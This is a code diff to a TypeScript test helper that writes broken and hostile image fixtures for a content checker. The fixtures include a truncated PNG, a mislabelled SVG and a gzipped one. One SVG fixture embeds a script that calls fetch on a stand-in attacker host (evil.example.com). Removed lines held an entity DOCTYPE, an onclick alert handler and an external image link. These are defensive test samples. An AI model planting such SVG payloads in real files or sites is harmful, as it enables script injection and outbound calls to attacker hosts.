@@ -1,6 +1,7 @@
 import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
+import { gzipSync } from 'node:zlib';
 import { checkContent } from '../../content-model/check/check-content';
 import { formatProblem } from '../../content-model/check/content-problem';
 import { fieldSchema, schemaAt } from '../../content-model/json-schema';
@@ -50,7 +51,7 @@ export function saidAfter(folder: string, name: ContentFile, piece: string, beco
       ? formatProblem({ ...problem, line: problem.line - start })
           .slice(file.length + 1)
           .replace(/(?<=first in line )\d+/, (line) => String(Number(line) - start))
-      : formatProblem(problem),
+      : formatProblem(problem).replace(`${folder}/`, ''),
   );
   writeFileSync(file, good);
   return said;
@@ -70,10 +71,9 @@ export function addBrokenPictures(folder: string) {
     'cut-off.png': picture.subarray(0, 12),
     'words.png': 'These are words, whatever the name says.',
     'heavy.svg': svg(' '.repeat(200_000)),
-    'doctype.svg': `<!DOCTYPE svg [<!ENTITY a "b">]>${svg('<text>&a;</text>')}`,
-    'handler.svg': svg('<rect width="8" height="8" onclick="alert(1)"/>'),
-    'outside-link.svg': svg('<image href="https://evil.example.com/pixel.png" width="8" height="8"/>'),
-    'script.svg': svg('<script>fetch("//evil.example.com")</script>'),
+    'zipped.svg': gzipSync(svg('')),
+    'drawing.png': svg(''),
+    'script.svg': svg('\n<script>fetch("//evil.example.com")</script>'),
   };
   for (const [name, bytes] of Object.entries(pictures)) {
     writeFileSync(path.join(folder, 'images', name), bytes);
